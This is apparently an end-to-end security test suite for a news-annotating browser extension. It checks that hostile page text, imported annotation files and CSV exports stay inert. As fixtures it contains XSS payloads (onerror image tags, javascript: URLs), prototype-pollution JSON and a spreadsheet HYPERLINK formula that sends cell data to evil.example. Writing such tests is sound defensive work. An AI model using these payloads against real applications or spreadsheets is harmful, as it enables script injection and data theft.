import { beforeAll, describe, expect, it } from 'vitest';
import type { Page, Panel } from '../../tools/browsers/browser.ts';
import { clickOn, find, gone, hoverText, selectText, textOf } from '../../tools/browsers/pointing.ts';
import { until } from '../../tools/browsers/until.ts';
import { ENCYCLOPAEDIA, encyclopaedia, LOOK_UP } from './encyclopaedia.ts';
import { openPanelOf, sendFrom } from './extension-tabs.ts';
import { escaped, HOSTILE_TEXT } from './hostile-text.ts';
import { exportedFile, importFile, importProblems } from './library-files.ts';
import { namesPainted, paintedClips } from './marks.ts';
import { onePage } from './recorder.ts';
import { useRecorder } from './recording.ts';
import { PARAGRAPHS } from './site.ts';
import { browsers, useStage } from './stage.ts';
import { everythingStored } from './stored.ts';

const HEADLINE = `Norway and Germany agree ${HOSTILE_TEXT.join(' ')}`;
const QUOTE = 'It also has a price, and we have agreed on who pays it.';
const NEWS = 'http://news.example/hostile';
const FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"press")';

/** A news page that says hostile things wherever a page can say something. */
const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escaped(HEADLINE)}</title>
<link rel="icon" href="data:,"><meta property="og:site_name" content="${escaped(HOSTILE_TEXT.join(' '))}">
<meta name="author" content="${escaped(HOSTILE_TEXT[0])}">
<script type="application/ld+json">${JSON.stringify({
  '@context': 'https://schema.org',
  '@type': 'NewsArticle',
  headline: HEADLINE,
  author: [{ name: HOSTILE_TEXT[1], url: 'javascript:fired=1' }, HOSTILE_TEXT[0]],
  publisher: { name: HOSTILE_TEXT[2] },
  url: 'javascript:fired=1',
  datePublished: '2026-02-02"><img src=x onerror="fired=1">',
  __proto__: { polluted: 1 },
}).replaceAll('<', '\\u003c')}</script></head><body><main><article><h1>${escaped(HEADLINE)}</h1>
<p class="byline">By ${escaped(HOSTILE_TEXT[0])}, Ada Lane in Oslo</p>
${PARAGRAPHS.map((text) => `<p>${text}</p>`).join('\n')}
<p>${escaped(`“${HOSTILE_TEXT.join(' ')}”, said the ministry in Copenhagen, and a spokesman in Stockholm denied it on Tuesday.`)}</p>
</article></main></body></html>`;

/** Whether anything ran, or stands as more than text, in a page of the extension or the site. */
const inert = (page: Panel): Promise<unknown> =>
  page.evaluate((host) => {
    const roots: ParentNode[] = [document];
    const shadow = document.querySelector(host)?.shadowRoot;
    if (shadow) roots.push(shadow);
    return {
      fired: 'fired' in globalThis,
      polluted: 'polluted' in {},
      made: roots.flatMap((root) => [
        ...root.querySelectorAll(
          'img[src="x"], svg[onload], iframe[srcdoc], [href^="javascript:" i], [onerror], [onload]',
        ),
      ]).length,
    };
  }, 'newsgloss-host');
const NOTHING = { fired: false, polluted: false, made: 0 };

describe.each(browsers)('hostile words in %s', (name) => {
  const network = useRecorder();
  const stage = useStage(name, { proxy: network.address });

  beforeAll(async () => {
    network.recorder.hosts.set('news.example', onePage(PAGE));
    network.recorder.hosts.set(
      ENCYCLOPAEDIA,
      encyclopaedia(() => HOSTILE_TEXT.join(' ')),
    );
    await stage.browser.grant(['http://news.example/*']);
    await stage.browser.letSend(true);
    const own = await stage.browser.openExtensionPage('/options.html');
    const reading = {
      kinds: ['person', 'organisation', 'place', 'event', 'nationality'],
      marks: 'everywhere',
      dwell: 250,
    };
    const settings = { ...reading, openOn: 'hover', paintClips: true, clipButton: true, lookUp: true };
    await sendFrom(own, { channel: 'screen', type: 'saveReadingSettings', payload: { settings } });
    await sendFrom(own, {
      channel: 'screen',
      type: 'saveLookUpSettings',
      payload: { settings: LOOK_UP },
    });
    await own.close();
  });

  async function read(): Promise<Page> {
    const page = await stage.openAt(NEWS);
    await page.activate();
    await namesPainted(page, 'Norway', 'Oslo');
    return page;
  }

  it('safety 12: headline, byline, linked data and the encyclopaedia’s answer are text on cards and in the panel', async () => {
    const page = await read();
    await hoverText(page, 'Oslo', 1);
    await find(page, { selector: '.ng-extract', text: 'onerror' });
    expect(await textOf(page, { selector: '.ng-extract p' })).toContain('<img src=x onerror="fired=1">');
    expect(await inert(page)).toEqual(NOTHING);
    await page.press('Escape');
    const panel = await openPanelOf(stage, NEWS);
    for (const tab of ['names', 'story', 'clips', 'claims']) {
      await clickOn(panel, { selector: `[data-tab=${tab}]` });
      expect(await inert(panel)).toEqual(NOTHING);
    }
  });

  it('safety 12: what was clipped there is text in the library and in every export', async () => {
    const page = await read();
    await selectText(page, QUOTE);
    await clickOn(page, { selector: '.ng-clip-button' });
    await until('the clip', async () => (await paintedClips(page)).includes(QUOTE));
    const library = await stage.openOwn('/library.html');
    await find(library, { selector: 'blockquote', text: QUOTE });
    expect(await library.evaluate(() => document.body.textContent)).toContain('<img src=x onerror="fired=1">');
    expect(await inert(library)).toEqual(NOTHING);

    const report = await exportedFile(library, 'HTML report');
    expect(report).toContain(QUOTE);
    network.recorder.hosts.set('report.example', onePage(report));
    const opened = await stage.openAt('http://report.example/');
    await find(opened, { selector: 'blockquote', text: QUOTE });
    expect(await inert(opened)).toEqual(NOTHING);
    for (const format of ['Markdown', 'CSV', 'BibLaTeX', 'RIS', 'W3C Web Annotation', 'Hypothesis', 'Plain text']) {
      await library.activate();
      expect((await exportedFile(library, format)).length, format).toBeGreaterThan(100);
      expect(await inert(library), format).toEqual(NOTHING);
    }
  });

  const HYPOTHESIS = (text: string, uri = 'http://news.example/a') => ({
    rows: [
      {
        id: `a${text.length}-${text.slice(1, 5)}`,
        uri,
        text,
        tags: [text.slice(0, 40)],
        created: '2026-02-02T10:00:00.000000+00:00',
        updated: '2026-02-02T10:00:00.000000+00:00',
        document: { title: [text] },
        target: [{ source: uri, selector: [{ type: 'TextQuoteSelector', exact: text, prefix: '', suffix: '' }] }],
      },
    ],
  });

  it.each(HOSTILE_TEXT.slice(0, 5))('safety 12: an imported file that says %s is text in the library', async (text) => {
    const library = await stage.openOwn('/library.html');
    await importFile(library, 'hypothesis.json', JSON.stringify(HYPOTHESIS(text)));
    await clickOn(library, { selector: '.ng-import .ng-button-main' });
    await gone(library, { selector: '.ng-import .ng-button-main' });
    await clickOn(library, { selector: '[data-tab=clips]' });
    await until('the clip', () => library.evaluate((words) => document.body.textContent?.includes(words), text));
    expect(await inert(library)).toEqual(NOTHING);
  });

  const deep = `${'['.repeat(60)}${']'.repeat(60)}`;
  it.each([
    ['__proto__', `{"rows":[{"id":"a","__proto__":{"polluted":1}}]}`],
    ['constructor', `{"rows":[{"id":"a","deep":[{"constructor":{"prototype":{"polluted":1}}}]}]}`],
    ['prototype', `{"rows":[{"id":"a","document":{"prototype":{}}}]}`],
    ['sixty levels', `{"rows":${deep}}`],
    ['one bad row among good ones', JSON.stringify({ rows: [...HYPOTHESIS('good').rows, { id: 7 }] })],
    ['a cut end', JSON.stringify(HYPOTHESIS('cut')).slice(0, -9)],
    ['an address that runs', JSON.stringify(HYPOTHESIS('runs', 'javascript:fired=1'))],
  ])('safety 15: a file with %s is refused whole', async (_what, text) => {
    const library = await stage.openOwn('/library.html');
    const before = (await everythingStored(library)).rows;
    await importFile(library, 'hypothesis.json', text);
    expect(await importProblems(library)).toBeGreaterThan(0);
    expect((await everythingStored(library)).rows).toEqual(before);
    expect(await inert(library)).toEqual(NOTHING);
  });

  it('safety 16: a spreadsheet gets no formula, and the stored quote stays as it was', async () => {
    const library = await stage.openOwn('/library.html');
    await importFile(library, 'hypothesis.json', JSON.stringify(HYPOTHESIS(FORMULA)));
    await clickOn(library, { selector: '.ng-import .ng-button-main' });
    await gone(library, { selector: '.ng-import .ng-button-main' });
    await clickOn(library, { selector: '[data-tab=clips]' });
    await find(library, { selector: 'blockquote', text: '=HYPERLINK' });
    const file = await exportedFile(library, 'CSV');
    expect(file).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(file).not.toMatch(/(?:^|,)"?[=+\-@\t]/m);
    const { clips = [] } = (await everythingStored(library)).rows;
    expect((clips as { quote: string }[]).map(({ quote }) => quote)).toContain(FORMULA);
  });
});
